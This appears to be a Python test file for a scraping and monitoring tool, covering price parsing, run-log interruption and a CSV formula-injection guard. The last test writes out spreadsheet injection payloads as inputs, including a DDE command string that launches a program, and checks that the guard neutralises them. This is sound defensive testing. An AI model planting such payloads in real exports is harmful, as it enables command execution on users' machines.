def test_real_grouped_prices_still_read():
    from extract.measures import parse_prices

    assert [m.amount for m in parse_prices("1.500.000 руб")] == [1_500_000]
    assert [m.amount for m in parse_prices("1,500,000 KZT")] == [1_500_000]
    assert [m.amount for m in parse_prices("$1,234.50")] == [1234.5]


def test_runs_of_other_live_processes_are_left_alone(tmp_path):
    from onionwatch.runlog import RunLog

    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        log = RunLog(tmp_path / "runs.sqlite")
        mine = log.start("a")
        theirs = log.start("b")
        log._db.execute("UPDATE runs SET pid = ? WHERE run_id = ?", (other.pid, theirs))
        log._db.commit()
        assert log.interrupt_unfinished("scheduler restarted") == 1
        status = {row["run_id"]: row["status"] for row in log.recent()}
        assert status == {mine: "interrupted", theirs: "running"}
    finally:
        other.kill()
        other.wait()
    status = {row["run_id"]: row["status"] for row in RunLog(tmp_path / "runs.sqlite").recent()}
    assert status[theirs] == "interrupted"


def test_every_csv_onionwatch_writes_goes_through_the_formula_guard(tmp_path):
    """Web exports, audit CSV, i2 and table exports, address labels: one guarded writer for all."""
    import csv
    import io
    import re

    from onionwatch.config import SAMPLES_DIR
    from onionwatch.safe_output import SafeDictWriter, safe_csv_writer

    buffer = io.StringIO()
    safe_csv_writer(buffer).writerow(["=HYPERLINK(\"http://x\")", "+SUM(A1)", "-12.5", 7, "@cmd", "plain"])
    writer = SafeDictWriter(buffer, ["title", "price"])
    writer.writerow({"title": "=cmd|' /C calc'!A0", "price": -3})
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[0] == ["'=HYPERLINK(\"http://x\")", "'+SUM(A1)", "-12.5", "7", "'@cmd", "plain"]
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-3"]
    package = SAMPLES_DIR.parent / "onionwatch"
    direct = [str(path) for path in package.rglob("*.py") if path.name != "safe_output.py"
              and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert direct == [], f"CSV written around the formula guard in {direct}"
